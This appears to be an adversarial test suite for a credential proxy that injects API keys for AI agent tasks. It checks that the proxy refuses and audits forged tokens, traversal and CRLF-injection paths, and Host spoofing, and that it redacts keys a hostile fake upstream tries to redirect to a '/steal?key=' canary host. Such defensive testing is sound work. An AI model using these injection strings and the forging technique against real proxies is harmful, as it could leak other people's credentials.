import { request as httpRequest } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { CertificateAuthority } from '@custos/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  addUpstream,
  echo,
  type FakeUpstream,
  fakeUpstream,
  type ProxyHarness,
  startProxyHarness,
} from '../proxy/proxy-test-support.js';

// Attack class: getting the credential proxy to send an upstream's key
// somewhere it does not belong, to someone who may not use it, or back to
// the caller — and making it hang or go unaudited. Real loopback HTTP: the
// upstream on 127.0.0.1, a "canary" on 127.0.0.2 standing for any other
// host (it must never be reached: nobody allowed it). The key is fake and
// fresh; after every case it must not appear in any response, log line or
// audit event.

const BODY_LIMIT = 64 * 1024;

/** Sends `head` (a request line and headers, CRLF-joined by the caller) byte for byte; resolves with the raw answer. */
function rawRequest(port: number, head: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1');
    let answer = '';
    socket.on('data', (c) => {
      answer += c.toString('latin1');
    });
    socket.on('end', () => resolve(answer));
    socket.on('close', () => resolve(answer));
    socket.on('error', reject);
    socket.write(head);
  });
}
const statusOf = (raw: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(raw)?.[1]);
const codeOf = (raw: string) => /"code":"(CUSTOS_ERR_[A-Z_]+)"/.exec(raw)?.[1];

describe('the credential proxy refuses, cuts and audits every abuse', () => {
  let h: ProxyHarness;
  let api: FakeUpstream;
  let canary: FakeUpstream;
  const responses: string[] = [];
  const logLines: string[] = [];
  let token: string;
  const errorCode = async (r: Response) => {
    const text = await r.text();
    responses.push(text);
    return (JSON.parse(text) as { error: { code: string } }).error.code;
  };
  const hitsSince = (n: number) => api.seen.length - n;

  beforeAll(async () => {
    h = await startProxyHarness({ bodyLimit: BODY_LIMIT, headersTimeoutMs: 1_000, idleTimeoutMs: 1_000 }, logLines);
    canary = await fakeUpstream((req, res, body) => echo(req, res, body), '127.0.0.2');
    api = await fakeUpstream((req, res, body) => {
      const url = req.url ?? '';
      if (url.includes('/redirect')) {
        // Bounces the caller, with the key in the target's query, to a host nobody allowed.
        const key = new URL(url, 'http://x').searchParams.get('key') ?? String(req.headers.authorization);
        res.writeHead(302, { location: `http://127.0.0.2:${canary.port}/steal?key=${encodeURIComponent(key)}` });
        res.end(`moved; your key was ${key}`);
      } else if (url.includes('/slow')) {
        // Never answers: the headers timeout must cut it.
      } else if (url.includes('/stream/reset')) {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.write('data: first\n\n', () => setImmediate(() => res.socket?.destroy()));
      } else if (url.includes('/stream/silent')) {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.write('data: first\n\n');
      } else if (url.includes('/gzip')) {
        res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
        res.end(gzipSync(JSON.stringify({ echoed: req.headers.authorization })));
      } else if (url.includes('/binary')) {
        res.writeHead(200, { 'content-type': 'application/octet-stream' });
        res.end(Buffer.from(String(req.headers.authorization)));
      } else if (url.includes('/forge-refusal')) {
        // Poses as a custos refusal, to make a client treat its answer as custos's word.
        res.writeHead(403, {
          'content-type': 'application/json',
          'x-custos-proxy-error': 'CUSTOS_ERR_PERMISSION_DENIED',
        });
        res.end('{"error":{"code":"CUSTOS_ERR_PERMISSION_DENIED","message":"forged"}}');
      } else if (url.includes('/header-echo')) {
        res.writeHead(200, { 'content-type': 'text/plain', 'x-echo': String(req.headers.authorization) });
        res.end(`base64: ${Buffer.from(String(req.headers.authorization).slice(7)).toString('base64')}`);
      } else {
        echo(req, res, body);
      }
    });
    await addUpstream(h, 'fake', {
      base_url: `http://127.0.0.1:${api.port}/v1`,
      inject: ['header:Authorization=Bearer {{value}}'],
      allow_hosts: [`127.0.0.1:${api.port}`],
    });
    await addUpstream(h, 'narrow', {
      base_url: `http://127.0.0.1:${api.port}/v1`,
      inject: ['query:key={{value}}'],
      allow_hosts: [`127.0.0.1:${api.port}`],
      allow_paths: ['/chat/*', '/redirect'],
      allow_methods: ['POST', 'GET'],
    });
    token = (await h.task()).token;
  });
  afterAll(async () => {
    // Whatever happened above: the key reached no other host, and never came back.
    expect(canary?.seen ?? []).toEqual([]);
    for (const text of responses) expect(text).not.toContain(h.key);
    const trail = JSON.stringify(await h.proxyEvents());
    expect(trail).not.toContain(h.key);
    expect(trail).not.toContain(token);
    expect(logLines.join('\n')).not.toContain(h.key);
    await api?.close();
    await canary?.close();
    await h?.close();
  });

  it('no token, a malformed one, two different ones, a forged one: 401, audited, nothing sent', async () => {
    const before = api.seen.length;
    expect(await errorCode(await h.call('/u/fake/x'))).toBe('CUSTOS_ERR_UNAUTHENTICATED');
    expect(await errorCode(await h.call('/u/fake/x', { headers: { authorization: 'Basic Zm9vOmJhcg==' } }))).toBe(
      'CUSTOS_ERR_UNAUTHENTICATED',
    );
    const other = (await h.task()).token;
    const two = await h.call('/u/fake/x', { token, headers: { 'proxy-authorization': `Bearer ${other}` } });
    expect(await errorCode(two)).toBe('CUSTOS_ERR_UNAUTHENTICATED');
    const [head, , signature] = token.split('.');
    const forged = `${head}.${Buffer.from(JSON.stringify({ scope: 'use:upstream/*' })).toString('base64url')}.${signature}`;
    const r = await h.call('/u/fake/x', { token: forged });
    expect(r.status).toBe(401);
    expect(r.headers.get('www-authenticate')).toContain('Bearer');
    await r.text();
    expect(hitsSince(before)).toBe(0);
    const refusals = (await h.proxyEvents()).filter((e) => e.status === 401);
    expect(refusals.length).toBeGreaterThanOrEqual(4);
    expect(refusals[0]).toMatchObject({
      decision: 'deny',
      error_code: 'CUSTOS_ERR_UNAUTHENTICATED',
      reason: 'proxy_no_credential',
      request: { path: 'upstream/fake', action: 'use' },
    });
  });

  it('an operator token, even root, is not a task: the proxy is for agents', async () => {
    const r = await h.call('/u/fake/x', { token: h.s.rootToken });
    expect(await errorCode(r)).toBe('CUSTOS_ERR_PERMISSION_DENIED');
  });

  it('a token minted for a registered resource is not a task token here: 401, nothing sent', async () => {
    await h.s.call({ method: 'PUT', url: '/v1/resources/adv-tool', payload: { url: 'https://tool.example.com' } });
    await h.s.call({
      method: 'PUT',
      url: '/v1/policies/agent',
      payload: {
        policy:
          'permit(principal, action == Custos::Action::"use", resource in Custos::Path::"upstream/");\n' +
          'permit(principal, action == Custos::Action::"use", resource == Custos::Path::"resource/adv-tool");\n' +
          'permit(principal, action == Custos::Action::"delegate", resource in Custos::Path::"sys/tasks/");',
      },
    });
    const parent = await h.task('use:upstream/* use:resource/adv-tool delegate:sys/tasks/*');
    const exchanged = await h.s.call({
      method: 'POST',
      url: '/v1/oauth/token',
      token: null,
      payload: {
        grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange',
        subject_token: parent.token,
        subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
        resource: 'https://tool.example.com',
        scope: 'use:upstream/fake',
      },
    });
    expect(exchanged.statusCode, exchanged.body).toBe(200);
    const before = api.seen.length;
    const r = await h.call('/u/fake/x', { token: exchanged.json().access_token });
    expect(await errorCode(r)).toBe('CUSTOS_ERR_UNAUTHENTICATED');
    expect(hitsSince(before)).toBe(0);
  });

  it('an upstream cannot pose as a custos refusal: the proxy drops its x-custos-proxy-error header', async () => {
    const r = await h.call('/u/fake/forge-refusal', { token });
    expect(r.status).toBe(403);
    expect(r.headers.get('x-custos-proxy-error')).toBeNull();
    responses.push(await r.text());
    // The proxy's own refusals carry it.
    const own = await h.call('/u/nosuch/x', { token });
    expect(own.headers.get('x-custos-proxy-error')).toBe('CUSTOS_ERR_UPSTREAM_NOT_FOUND');
    await own.text();
  });

  it('revoking the parent refuses the child’s next call; an ended task is refused too', async () => {
    const parent = await h.task();
    const child = await h.delegate(parent.token, 'use:upstream/fake');
    const ok = await h.call('/u/fake/x', { token: child.token });
    expect(ok.status).toBe(200);
    responses.push(await ok.text());
    const revoked = await h.s.call({ method: 'POST', url: `/v1/tasks/${parent.task_id}/revoke` });
    expect(revoked.statusCode, revoked.body).toBeLessThan(300);
    const before = api.seen.length;
    expect(await errorCode(await h.call('/u/fake/x', { token: child.token }))).toBe('CUSTOS_ERR_UNAUTHENTICATED');
    expect(await errorCode(await h.call('/u/fake/x', { token: parent.token }))).toBe('CUSTOS_ERR_UNAUTHENTICATED');
    const ended = await h.task();
    await h.s.call({ method: 'POST', url: `/v1/tasks/${ended.task_id}/end`, token: ended.token });
    expect(await errorCode(await h.call('/u/fake/x', { token: ended.token }))).toBe('CUSTOS_ERR_UNAUTHENTICATED');
    expect(hitsSince(before)).toBe(0);
    // Each refusal names the dead task and why, as the API's refusals do, so
    // the anomaly rules see a dead token being used at the proxy too.
    const refusals = (await h.proxyEvents()).filter((e) => e.status === 401);
    const named = (task: string) =>
      refusals.find((e) => (e.details as { refused_task?: { task_id: string } }).refused_task?.task_id === task);
    expect(named(child.task_id)).toMatchObject({ reason: 'task_revoked', auth: {} });
    expect(named(parent.task_id)).toMatchObject({ reason: 'task_revoked' });
    expect(named(ended.task_id)).toMatchObject({ reason: 'task_ended' });
  });

  it('a scope without use on this upstream is refused; a child cannot widen its parent’s', async () => {
    const before = api.seen.length;
    const noUse = await h.task('delegate:sys/tasks/*');
    expect(await errorCode(await h.call('/u/fake/x', { token: noUse.token }))).toBe('CUSTOS_ERR_PERMISSION_DENIED');
    const otherOnly = await h.task('use:upstream/narrow delegate:sys/tasks/*');
    expect(await errorCode(await h.call('/u/fake/x', { token: otherOnly.token }))).toBe('CUSTOS_ERR_PERMISSION_DENIED');
    // No existence oracle: an unknown upstream without `use` is the same refusal.
    expect(await errorCode(await h.call('/u/nonexistent/x', { token: otherOnly.token }))).toBe(
      'CUSTOS_ERR_PERMISSION_DENIED',
    );
    const wider = await h.s.call({
      method: 'POST',
      url: '/v1/tasks/delegate',
      token: otherOnly.token,
      payload: { ttl: '1m', scope: 'use:upstream/*' },
    });
    expect(wider.statusCode).toBe(403);
    expect(wider.json().error.code).toBe('CUSTOS_ERR_SCOPE_EXCEEDS_PARENT');
    expect(hitsSince(before)).toBe(0);
  });

  it('a role whose policies do not permit use is refused whatever the scope says', async () => {
    await h.s.call({
      method: 'PUT',
      url: '/v1/policies/reader',
      payload: { policy: 'permit(principal, action == Custos::Action::"read", resource in Custos::Path::"kv/");' },
    });
    await h.s.call({ method: 'PUT', url: '/v1/roles/reader', payload: { policies: ['reader'], max_ttl: '5m' } });
    const task = (
      await h.s.call({ method: 'POST', url: '/v1/roles/reader/tasks', payload: { ttl: '5m', scope: 'use:upstream/*' } })
    ).json() as { token: string };
    expect(await errorCode(await h.call('/u/fake/x', { token: task.token }))).toBe('CUSTOS_ERR_PERMISSION_DENIED');
  });

  it('methods and paths outside the allow lists are refused before anything is sent', async () => {
    const before = api.seen.length;
    expect(await errorCode(await h.call('/u/narrow/chat/x', { token, method: 'DELETE' }))).toBe(
      'CUSTOS_ERR_PROXY_METHOD_REFUSED',
    );
    expect(await errorCode(await h.call('/u/narrow/admin', { token, method: 'POST' }))).toBe(
      'CUSTOS_ERR_PROXY_PATH_NOT_ALLOWED',
    );
    // TRACE would reflect the injected header back: never allowed (fetch cannot even send it).
    const trace = await rawRequest(
      h.proxyPort(),
      `TRACE /u/fake/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nConnection: close\r\n\r\n`,
    );
    expect(codeOf(trace)).toBe('CUSTOS_ERR_PROXY_METHOD_REFUSED');
    expect(hitsSince(before)).toBe(0);
  });

  it('traversal in every spelling, CR/LF in path or query, an absolute URL: refused, never sent', async () => {
    const before = api.seen.length;
    const auth = `Authorization: Bearer ${token}\r\n`;
    for (const target of [
      '/u/narrow/chat/../../admin',
      '/u/narrow/chat/%2e%2e/%2e%2e/admin',
      '/u/narrow/chat/%2E%2E%2fadmin',
      '/u/narrow/chat/.%2e/admin',
      '/u/narrow/chat%2f..%2fadmin',
      '/u/narrow/chat/..\\..\\admin',
      '/u/narrow/chat/%252e%252e/admin',
      '/u/narrow//chat/x',
      '/u/narrow/chat/x%0d%0aX-Injected:%20yes',
      '/u/narrow/chat/x?q=%0d%0aX-Injected:%20yes',
      '/u/narrow/chat/x?q=%00',
    ]) {
      const raw = await rawRequest(
        h.proxyPort(),
        `POST ${target} HTTP/1.1\r\nHost: x\r\n${auth}Content-Length: 0\r\nConnection: close\r\n\r\n`,
      );
      responses.push(raw);
      expect(statusOf(raw), target).toBe(400);
      expect(codeOf(raw), target).toBe('CUSTOS_ERR_PROXY_PATH_REFUSED');
    }
    // An absolute URL is forward mode (proxy-forward.ts): its origin must be an upstream's, so one
    // naming the canary is refused — with a token in Proxy-Authorization as forward mode wants it.
    const absolute = await rawRequest(
      h.proxyPort(),
      `POST http://127.0.0.2:${canary.port}/u/narrow/chat/x HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Bearer ${token}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    );
    responses.push(absolute);
    expect(statusOf(absolute)).toBe(403);
    expect(codeOf(absolute)).toBe('CUSTOS_ERR_PROXY_PATH_NOT_ALLOWED');
    // (A raw CR/LF cannot be smuggled at all: it ends the request line for Node's parser, so
    // what follows is only a header the caller sent about itself, which custos strips or forwards
    // as any other; encoded, it is refused above.)
    expect(hitsSince(before)).toBe(0);
    const refused = (await h.proxyEvents()).filter((e) => e.error_code === 'CUSTOS_ERR_PROXY_PATH_REFUSED');
    expect(refused.length).toBeGreaterThanOrEqual(10);
  });

  it('a Host header naming another host changes nothing: the request goes to the base URL', async () => {
    const raw = await rawRequest(
      h.proxyPort(),
      `GET /u/fake/where HTTP/1.1\r\nHost: 127.0.0.2:${canary.port}\r\nAuthorization: Bearer ${token}\r\nConnection: close\r\n\r\n`,
    );
    responses.push(raw);
    expect(statusOf(raw)).toBe(200);
    expect(api.seen.at(-1)).toMatchObject({ url: '/v1/where', headers: { host: `127.0.0.1:${api.port}` } });
  });

  it('a redirect to another host is returned to the caller, not followed, the key redacted from it', async () => {
    const r = await h.call('/u/narrow/redirect', { token, redirect: 'manual' });
    expect(r.status).toBe(302);
    const location = r.headers.get('location') ?? '';
    expect(location).toContain(`127.0.0.2:${canary.port}/steal`);
    expect(location).not.toContain(h.key);
    responses.push(location, await r.text());
    expect(canary.seen).toEqual([]);
  });

  it('an upstream echoing the key in a header or in base64 gets it redacted', async () => {
    const r = await h.call('/u/fake/header-echo', { token });
    expect(r.headers.get('x-echo')).toBe('Bearer [REDACTED:upstream:fake]');
    const text = await r.text();
    responses.push(text, r.headers.get('x-echo') ?? '');
    expect(text).not.toContain(Buffer.from(h.key).toString('base64'));
  });

  it('a compressed or binary answer, which the redactor cannot read, is refused', async () => {
    for (const path of ['/u/fake/gzip', '/u/fake/binary']) {
      const r = await h.call(path, { token });
      expect(r.status, path).toBe(502);
      expect(await errorCode(r), path).toBe('CUSTOS_ERR_UPSTREAM_RESPONSE_REFUSED');
    }
  });

  it('an oversized body is refused: declared, before anything is sent; chunked, cut as it streams', async () => {
    const before = api.seen.length;
    const declared = await h.call('/u/fake/upload', { token, method: 'POST', body: 'x'.repeat(BODY_LIMIT + 1) });
    expect(declared.status).toBe(413);
    expect(await errorCode(declared)).toBe('CUSTOS_ERR_BODY_TOO_LARGE');
    expect(hitsSince(before)).toBe(0);
    // A never-ending chunked body: custos answers 413 once past the limit and closes.
    const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = httpRequest(`${h.proxy.address}/u/fake/upload`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'transfer-encoding': 'chunked' },
      });
      const chunk = Buffer.alloc(8 * 1024, 'y');
      let open = true;
      const pump = () => {
        while (open && req.write(chunk)) {
          /* keep writing until backpressure */
        }
        if (open) req.once('drain', pump);
      };
      req.on('response', (res) => {
        open = false;
        let body = '';
        res.on('data', (c) => {
          body += c;
        });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        res.on('error', reject);
      });
      req.on('error', () => undefined);
      pump();
    });
    responses.push(answer.body);
    expect(answer.status).toBe(413);
    expect(answer.body).toContain('CUSTOS_ERR_BODY_TOO_LARGE');
    const events = await h.proxyEvents();
    expect(events.at(-1)).toMatchObject({ error_code: 'CUSTOS_ERR_BODY_TOO_LARGE', status: 413 });
  });

  it('a slow upstream is cut with 504; one silent mid-stream or resetting is cut, audited with the reason', async () => {
    const slow = await h.call('/u/fake/slow', { token });
    expect(slow.status).toBe(504);
    expect(await errorCode(slow)).toBe('CUSTOS_ERR_UPSTREAM_TIMEOUT');
    for (const [path, code] of [
      ['/u/fake/stream/reset', 'CUSTOS_ERR_UPSTREAM_FAILED'],
      ['/u/fake/stream/silent', 'CUSTOS_ERR_UPSTREAM_TIMEOUT'],
    ] as const) {
      const r = await h.call(path, { token });
      expect(r.status, path).toBe(200);
      // The head had gone: the body is cut short, which the client sees as an error.
      await expect(r.text(), path).rejects.toThrow();
      const id = r.headers.get('x-custos-request-id');
      // The outcome is recorded when the exchange ends, just after the cut.
      let outcome: Record<string, unknown> | undefined;
      for (let i = 0; i < 100 && !outcome; i++) {
        outcome = (await h.proxyEvents()).find(
          (e) => e.request_id === id && (e.details as { phase: string }).phase === 'response',
        );
        if (!outcome) await new Promise((resolve) => setTimeout(resolve, 20));
      }
      expect(outcome, path).toMatchObject({ decision: 'error', error_code: code, status: 200 });
    }
  });

  it('kept-alive connections never outlive an upstream’s destination: a rewritten upstream’s next call goes to the new one', async () => {
    const second = await fakeUpstream(echo);
    try {
      const config = (port: number) => ({
        base_url: `http://127.0.0.1:${port}`,
        inject: ['header:Authorization=Bearer {{value}}'],
        allow_hosts: [`127.0.0.1:${port}`],
      });
      await addUpstream(h, 'moving', config(api.port));
      for (let i = 0; i < 3; i++) responses.push(await (await h.call('/u/moving/first', { token })).text());
      await addUpstream(h, 'moving', config(second.port));
      const before = api.seen.length;
      const r = await h.call('/u/moving/second', { token });
      responses.push(await r.text());
      expect(r.status).toBe(200);
      expect(api.seen.length - before).toBe(0);
      expect(second.seen.map((x) => x.url)).toEqual(['/second']);
    } finally {
      await second.close();
    }
  });

  it('a secret that is gone is refused, without saying more; a deleted upstream is refused at the next call', async () => {
    await addUpstream(h, 'dangling', {
      base_url: `http://127.0.0.1:${api.port}`,
      secret: 'kv/llm/nothing-here#api_key',
      inject: ['header:Authorization=Bearer {{value}}'],
      allow_hosts: [`127.0.0.1:${api.port}`],
    });
    expect(await errorCode(await h.call('/u/dangling/x', { token }))).toBe('CUSTOS_ERR_UPSTREAM_SECRET_UNAVAILABLE');
    await h.s.call({ method: 'DELETE', url: '/v1/upstreams/dangling' });
    expect(await errorCode(await h.call('/u/dangling/x', { token }))).toBe('CUSTOS_ERR_UPSTREAM_NOT_FOUND');
  });
});

describe('a call in flight does not outlive its task tree', () => {
  it('revoking an ancestor mid-stream cuts the answer within the liveness interval, audited', async () => {
    const h = await startProxyHarness({ livenessIntervalMs: 100, idleTimeoutMs: 30_000 });
    // An endless event stream: one event, then one more each time the test asks.
    let more: (() => void) | undefined;
    const api = await fakeUpstream((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.write('data: one\n\n');
      more = () => res.write('data: more\n\n');
    });
    try {
      await addUpstream(h, 'fake', {
        base_url: `http://127.0.0.1:${api.port}`,
        inject: ['header:Authorization=Bearer {{value}}'],
        allow_hosts: [`127.0.0.1:${api.port}`],
      });
      const parent = await h.task();
      const child = await h.delegate(parent.token, 'use:upstream/fake');
      const r = await h.call('/u/fake/stream/endless', { token: child.token });
      expect(r.status).toBe(200);
      const reader = r.body!.getReader();
      expect(new TextDecoder().decode((await reader.read()).value)).toBe('data: one\n\n');
      await h.s.call({ method: 'POST', url: `/v1/tasks/${parent.task_id}/revoke` });
      more?.();
      // Whatever was already on its way may arrive; then the stream is cut, not ended.
      await expect(
        (async () => {
          for (;;) if ((await reader.read()).done) return 'ended cleanly';
        })(),
      ).rejects.toThrow();
      let outcome: Record<string, unknown> | undefined;
      for (let i = 0; i < 100 && !outcome; i++) {
        outcome = (await h.proxyEvents()).find(
          (e) => (e.details as { phase: string }).phase === 'response' && e.status === 200,
        );
        if (!outcome) await new Promise((resolve) => setTimeout(resolve, 20));
      }
      expect(outcome).toMatchObject({
        decision: 'error',
        error_code: 'CUSTOS_ERR_UNAUTHENTICATED',
        reason: 'task_ended_mid_call',
        auth: { task_id: child.task_id, task_chain: [parent.task_id, child.task_id] },
      });
    } finally {
      await api.close();
      await h.close();
    }
  });
});

describe('TLS to an upstream is verified before the key is sent', () => {
  it('an https upstream is reached only when its certificate chains to the CA trusted for it (the system’s, or its tls_ca)', async () => {
    const h = await startProxyHarness();
    const ca = await CertificateAuthority.create({ trustDomain: 'proxy-upstream.test' });
    const other = await CertificateAuthority.create({ trustDomain: 'someone-else.test' });
    const leaf = await ca.issueServerCertificate({ dnsNames: ['localhost'], ipAddresses: ['127.0.0.1'] });
    const seen: Array<string | undefined> = [];
    const server = createHttpsServer({ key: leaf.keyPem, cert: leaf.certPem }, (req, res) => {
      seen.push(req.headers.authorization);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ authorization: req.headers.authorization }));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    try {
      const { token } = await h.task();
      const upstream = (name: string, base: string, tlsCa?: string) =>
        addUpstream(h, name, {
          base_url: base,
          inject: ['header:Authorization=Bearer {{value}}'],
          allow_hosts: [`127.0.0.1:${port}`, 'localhost'],
          ...(tlsCa ? { tls_ca: tlsCa } : {}),
        });
      // The system trust store does not know this CA, nor does another one: the handshake fails, nothing is sent.
      await upstream('untrusted', `https://127.0.0.1:${port}`);
      await upstream('wrong-ca', `https://127.0.0.1:${port}`, other.certPem);
      for (const name of ['untrusted', 'wrong-ca']) {
        const r = await h.call(`/u/${name}/x`, { token });
        expect(r.status, name).toBe(502);
        const text = await r.text();
        expect(text).toContain('CUSTOS_ERR_UPSTREAM_FAILED');
        expect(text).not.toContain(h.key);
      }
      expect(seen).toEqual([]);
      // With its CA the call goes through, and the answer is redacted as ever.
      await upstream('trusted', `https://127.0.0.1:${port}/`, ca.certPem);
      const ok = await h.call('/u/trusted/x', { token });
      expect(ok.status).toBe(200);
      expect(await ok.json()).toEqual({ authorization: 'Bearer [REDACTED:upstream:trusted]' });
      expect(seen).toEqual([`Bearer ${h.key}`]);
      // tls_ca is for https only, and holds certificates only.
      const plain = await h.s.call({
        method: 'PUT',
        url: '/v1/upstreams/plain',
        payload: {
          base_url: 'http://127.0.0.1:1',
          secret: 'kv/llm/fake#api_key',
          inject: ['header:Authorization=Bearer {{value}}'],
          allow_hosts: ['127.0.0.1:1'],
          tls_ca: ca.certPem,
        },
      });
      expect(plain.json().error.code).toBe('CUSTOS_ERR_VALIDATION');
      const key = await h.s.call({
        method: 'PUT',
        url: '/v1/upstreams/keyed',
        payload: {
          base_url: `https://127.0.0.1:${port}`,
          secret: 'kv/llm/fake#api_key',
          inject: ['header:Authorization=Bearer {{value}}'],
          allow_hosts: [`127.0.0.1:${port}`],
          tls_ca: `${ca.certPem}${leaf.keyPem}`,
        },
      });
      expect(key.json().error.code).toBe('CUSTOS_ERR_VALIDATION');
      expect(key.body).not.toContain('PRIVATE KEY');
    } finally {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
      await h.close();
    }
  });
});

describe('the credential proxy is audited fail-closed', () => {
  it('when the call cannot be audited, it is refused before anything is sent', async () => {
    const h = await startProxyHarness({}, [], true);
    const api = await fakeUpstream(echo);
    try {
      await addUpstream(h, 'fake', {
        base_url: `http://127.0.0.1:${api.port}`,
        inject: ['header:Authorization=Bearer {{value}}'],
        allow_hosts: [`127.0.0.1:${api.port}`],
      });
      const { token } = await h.task();
      const audit = h.s.storage.audit;
      const original = audit.append.bind(audit);
      audit.append = async () => {
        throw new Error('disk full');
      };
      try {
        const r = await h.call('/u/fake/x', { token, method: 'POST', body: 'payload' });
        expect(r.status).toBe(503);
        const text = await r.text();
        expect(text).toContain('CUSTOS_ERR_AUDIT_UNAVAILABLE');
        expect(text).not.toContain(h.key);
      } finally {
        audit.append = original;
      }
      expect(api.seen).toEqual([]);
      const again = await h.call('/u/fake/x', { token });
      expect(again.status).toBe(200);
      await again.text();
      expect(api.seen).toHaveLength(1);
    } finally {
      await api.close();
      await h.close();
    }
  });
});
